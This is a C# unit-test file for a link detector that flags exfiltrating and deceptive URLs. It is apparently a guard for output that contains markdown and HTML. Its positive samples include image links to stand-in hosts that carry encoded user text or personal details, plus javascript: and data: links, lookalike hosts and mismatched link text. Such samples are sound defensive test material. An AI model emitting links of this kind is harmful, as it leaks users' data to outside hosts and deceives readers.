using Gatehouse.Core.Guards;

namespace Gatehouse.Tests.Guards;

/// <summary>Addresses that carry data out or deceive are found, and usual ones are not.</summary>
public sealed class LinkDetectorTests
{
    private const string Coded = "dGhpcyBpcyB3aGF0IHRoZSB1c2VyIHdyb3RlIGJlZm9yZQ";

    private static readonly LinkDetector Detector = new();

    private static readonly (string Rule, string Text)[] Bad =
    [
        ("image-data", $"See ![a](https://c.example/a.png?d={Coded}) here"),
        ("image-data", "![a](https://c.example/log/Anna%20Schmidt%20lives%20in%20Bonn.png)"),
        ("image-data", $"<img alt='x' src=\"//c.example/{Coded}ab.png\">"),
        ("image-data", $"[r]: https://c.example/?d={Coded}\n"),
        ("image-host", "<img src=http://198.51.100.2/a.gif width=1>"),
        ("image-host", "![a](https://xn--bcher-kva.example/a.png)"),
        ("address-data", $"Go to https://c.example/x?a=1&d={Coded}."),
        ("script", "<a href=\"javascript:steal()\">more</a>"),
        ("script", "[more](data:text/html;base64,PGI+)"),
        ("other-host", "[www.bank.com](https://login.example.net/)"),
        ("other-host", "<a href='https://evil.example.net/'>https://bank.com/login</a>"),
        ("user-info", "https://bank.com@evil.example.net/"),
    ];

    private static readonly string[] Good =
    [
        "", "See [the docs](https://learn.example.com/guide?tab=linux) and https://example.com/a/b?page=2.",
        "![logo](https://example.com/logo.png)", "![badge](https://img.example.com/build.svg?v=2)",
        "[example.com](https://www.example.com/)", "[README.md](https://github.com/a/b)", "a[i] = b[(j)]",
        "<a href=\"/local\">here</a>", "<b>bold</b> [x] done [y]: later",
        "![inline](data:image/png;base64,iVBORw0KGgo=)",
        "if (a <b && c> d) x", "https://www.youtube.com/watch?v=dQw4w9WgXcQ", "data: 5, javascript: good language",
        "http://192.168.1.10:8123/lovelace", "mail me at anna@example.org",
    ];

    public static TheoryData<string, string> Positives => [.. Bad];

    public static TheoryData<string> Negatives => [.. Good];

    [Fact]
    public void Each_rule_finds_its_example() => Assert.All(Detector.Rules, rule =>
    {
        Assert.Contains(SplitText.Whole(Detector, $"see {rule.Example} there"), one => one.Rule == rule);
        SplitText.SameWhereverItIsCut(Detector, $"see {rule.Example} there");
    });

    [Theory]
    [MemberData(nameof(Positives))]
    public void A_bad_address_is_found_wherever_it_is_cut(string rule, string text)
    {
        // A definition is not known to be an image's.
        var expected = text.StartsWith("[r]", StringComparison.Ordinal) ? "links/address-data" : $"links/{rule}";
        Assert.Contains(SplitText.Whole(Detector, text), one => one.Rule.Id == expected);
        SplitText.SameWhereverItIsCut(Detector, text);
    }

    [Theory]
    [MemberData(nameof(Negatives))]
    public void A_usual_address_is_not_found(string text)
    {
        Assert.Empty(SplitText.Whole(Detector, text));
        SplitText.SameWhereverItIsCut(Detector, text);
    }

    [Fact]
    public void An_address_without_an_end_is_found()
    {
        var text = "![x](https://c.example/?d=" + string.Concat(Enumerable.Repeat(Coded, 300));

        Assert.NotEmpty(SplitText.Whole(Detector, text));
        SplitText.SameAsWhole(Detector, text, 100, 4_000, 9_000, 12_000);
    }
}
